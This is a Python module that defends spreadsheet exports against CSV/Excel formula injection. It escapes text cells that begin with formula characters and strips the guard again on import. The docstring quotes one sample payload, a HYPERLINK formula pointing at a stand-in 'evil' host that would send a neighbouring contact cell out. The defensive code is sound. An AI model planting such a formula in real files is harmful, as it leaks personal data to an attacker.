"""Every export writes its cells through here, so no cell of ours is ever a formula in a spreadsheet.

A text such as `=HYPERLINK("http://evil/?d="&Q2,"click")` typed into a description would otherwise be
a live formula in an officer's Excel (reading the contact column next to it), and a .csv opened in
Excel evaluates `=`, `+`, `-`, `@` (also after a tab or carriage return) the same way.

- .xlsx: text values are stored as text cells (never formula cells) and those starting with a formula
  character also get Excel's "quote prefix", so editing the cell does not turn it into a formula.
- .csv: text starting with a formula character gets a leading apostrophe (OWASP's advice); the
  importer removes that apostrophe again, so an export re-imports unchanged.
Numbers, dates and booleans are written as themselves: they cannot be formulas.
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")


def is_formula_like(text: str) -> bool:
    return text.startswith(FORMULA_STARTS)


def csv_value(value: Any) -> Any:
    """One cell of a .csv export."""
    if isinstance(value, str) and is_formula_like(value):
        return "'" + value
    return value


def csv_row(values: Iterable[Any]) -> list[Any]:
    return [csv_value(v) for v in values]


def xlsx_row(sheet: Any, values: Iterable[Any]) -> list[Any]:
    """One row of an .xlsx export as cells for `sheet.append` (write-only or normal worksheets).
    Values that are already cells (styled by the caller) are made safe in place."""
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.cell.cell import Cell

    cells = []
    for value in values:
        cell = value if isinstance(value, Cell) else WriteOnlyCell(sheet, value=value)
        if isinstance(cell.value, str):
            # Assigning a str starting with "=" makes openpyxl store a formula: store text instead.
            cell.data_type = "s"
            if is_formula_like(cell.value):
                cell.quotePrefix = True
        cells.append(cell)
    return cells


def strip_csv_guard(text: str) -> str:
    """The importer's inverse of `csv_value`: "'=x" read from a .csv is the text "=x" again."""
    if text.startswith("'") and is_formula_like(text[1:]):
        return text[1:]
    return text
